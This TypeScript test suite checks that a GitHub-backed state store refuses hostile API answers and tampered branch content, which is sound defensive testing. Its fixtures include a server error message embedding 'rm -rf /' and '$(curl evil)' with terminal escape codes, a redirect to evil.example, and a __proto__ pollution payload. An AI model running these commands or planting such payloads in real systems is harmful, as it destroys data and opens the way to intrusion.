import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { ConfigurationError } from '../../src/errors/configuration-error.js';
import { StateUnreachableError } from '../../src/state/state-unreachable-error.js';
import { serializeState } from '../../src/switching/parse-state.js';
import { useGitHubApiServer } from '../support/github-api-server.js';
import { bump, cacheFolder, entryAt, OWNER, REPO, seed, stateAt, testStore } from '../state/branch-state-store.fixtures.js';

/*
 * Hostile answers from the GitHub API (or what claims to be it) and hostile
 * content on the state branch: each is refused with one clear, located
 * error, in bounded time and memory, or accepted safely; nothing is written
 * and nothing is cached from it.
 */

const MiB = 1024 * 1024;
const WHERE = 'state.json on branch "persona-state" of octo-org/app';
const standIn = useGitHubApiServer({});
beforeEach(() => standIn().setRepoInfo(OWNER, REPO));
beforeAll(() =>
  testStore(standIn())
    .store.history(1)
    .catch(() => undefined),
);

async function failure(promise: Promise<unknown>): Promise<ConfigurationError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ConfigurationError);
  return error as ConfigurationError;
}

const writes = () => standIn().requests.filter((r) => r.method !== 'GET');

describe('hostile state store answers', () => {
  it('refuses a state.json over 1 MiB after reading at most 1 MiB, without retrying or caching it', async () => {
    const cacheDirectory = cacheFolder();
    standIn().queue({ status: 200, headers: { etag: 'W/"big"' }, raw: Buffer.alloc(5 * MiB, 0x20) });
    const error = await failure(testStore(standIn(), { cacheDirectory }).store.read());
    expect(error.diagnostics[0]).toMatchObject({ file: WHERE });
    expect(error.message).toMatch(/at most 1 MiB/);
    expect(error.message).not.toMatch(/persona file|library source/);
    expect(standIn().requests).toHaveLength(1);
    expect(readdirSync(cacheDirectory)).toEqual([]);
  });

  it('refuses a Content-Length over 1 MiB before reading the body', async () => {
    standIn().queue({ status: 200, headers: { 'content-length': String(50 * MiB) }, raw: Buffer.from('{}') });
    const error = await failure(testStore(standIn()).store.read());
    expect(error.message).toMatch(/declares a body of 52428800 bytes/);
  });

  it('reports corrupt JSON on the branch with file, line and column, and an update never replaces it', async () => {
    seed(standIn(), '{\n  "schema_version": "1.0",\n  "revision": 3,,\n}\n');
    const { store } = testStore(standIn());
    const error = await failure(store.read());
    expect(error.diagnostics).toHaveLength(1);
    expect(error.diagnostics[0]).toMatchObject({ file: WHERE, line: 3 });
    expect(error.diagnostics[0]!.column).toEqual(expect.any(Number));
    await failure(store.update(bump('x')));
    expect(writes()).toEqual([]);
  });

  it('refuses __proto__ in state.json without polluting any prototype', async () => {
    const text = serializeState(stateAt(2)).replace('"revision": 2,', '"revision": 2,\n  "__proto__": { "polluted": true },');
    seed(standIn(), text);
    const error = await failure(testStore(standIn()).store.read());
    expect(error.diagnostics[0]).toMatchObject({ file: WHERE });
    expect(error.message).toMatch(/__proto__/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('quotes a hostile error message from the server cut short, with control characters escaped', async () => {
    const message = `\u001b[31mrm -rf /\u0007 $(curl evil) ${'x'.repeat(10_000)}`;
    standIn().queue({ status: 400, body: { message } });
    const error = await failure(testStore(standIn()).store.read());
    expect(error.message.length).toBeLessThan(400);
    // eslint-disable-next-line no-control-regex
    expect(error.message).not.toMatch(/[\u0000-\u001f]/);
    expect(error.message).toContain('\\u001b');
  });

  it('ignores a tampered cache entry (garbage, another key, a state that does not validate) and reads afresh', async () => {
    seed(standIn(), stateAt(4));
    const cacheDirectory = cacheFolder();
    await testStore(standIn(), { cacheDirectory }).store.read();
    const [entry] = readdirSync(cacheDirectory);
    const file = path.join(cacheDirectory, entry!);
    for (const planted of [
      'not json',
      JSON.stringify({ key: 'another store', etag: 'x', text: '{}' }),
      JSON.stringify({ key: '', etag: 'W/"1"', text: '{}' }),
    ]) {
      writeFileSync(file, planted);
      standIn().requests.length = 0;
      await expect(testStore(standIn(), { cacheDirectory }).store.read()).resolves.toMatchObject({ revision: 4 });
      expect(standIn().requests.map((r) => [r.status, r.headers['if-none-match']])).toEqual([[200, undefined]]);
    }
    // An entry for this very store whose text does not validate is not trusted on a 304 either.
    const key = (JSON.parse(readFileSync(file, 'utf8')) as { key: string }).key;
    writeFileSync(file, JSON.stringify({ key, etag: 'W/"whatever"', text: '{"revision": 99}' }));
    standIn().requests.length = 0;
    await expect(testStore(standIn(), { cacheDirectory }).store.read()).resolves.toMatchObject({ revision: 4 });
    expect(standIn().requests[0]!.headers['if-none-match']).toBeUndefined();
  });

  it('sends a branch name with ?, #, % and spaces as one encoded ref, never as extra query or path', async () => {
    const branch = 'state?ref=main#x %2F y';
    standIn()
      .git(OWNER, REPO)
      .commitFiles(branch, { 'state.json': serializeState(stateAt(6)) }, 'seed');
    await expect(testStore(standIn(), { branch }).store.read()).resolves.toMatchObject({ revision: 6 });
    expect(standIn().requests[0]).toMatchObject({ path: `/repos/${OWNER}/${REPO}/contents/state.json`, query: { ref: branch } });
  });

  it('fails at once, without waiting, when Retry-After asks for a day', async () => {
    standIn().queue({ status: 503, headers: { 'retry-after': '86400' } });
    const { store, readWaits } = testStore(standIn());
    const started = Date.now();
    await expect(store.read()).rejects.toBeInstanceOf(StateUnreachableError);
    expect(readWaits).toEqual([]);
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('does not follow a redirect to another host', async () => {
    standIn().queue({ status: 301, headers: { location: 'https://evil.example/state.json' } });
    const error = await failure(testStore(standIn()).store.read());
    expect(error.message).toMatch(/could not be read \(HTTP 301\)/);
    expect(standIn().requests).toHaveLength(1);
  });

  it('refuses to write a state over 1 MiB, before sending anything', async () => {
    seed(standIn(), stateAt(1));
    const huge = stateAt(2);
    huge.active!.reason = 'r'.repeat(1.2 * MiB);
    const error = await failure(testStore(standIn()).store.update(() => ({ write: { state: huge, entry: entryAt(2) }, result: 2 })));
    expect(error.message).toMatch(/over the 1 MiB a state may have; nothing was written/);
    expect(writes()).toEqual([]);
  });

  it('skips commits on the branch whose message forges or damages the history trailer', async () => {
    const { store } = testStore(standIn());
    await store.update(bump('real'));
    const git = standIn().git(OWNER, REPO);
    git.commitFiles('persona-state', { 'x.txt': '1' }, 'hand\n\nPersona-State-Entry: {"revision": "not a number"}');
    git.commitFiles('persona-state', { 'x.txt': '2' }, 'Persona-State-Entry: {"at":"2026-01-01T00:00:00Z"}\n\ntrailing words');
    expect((await store.history(10)).map((e) => e.correlation_id)).toEqual(['real-r1']);
  });
});
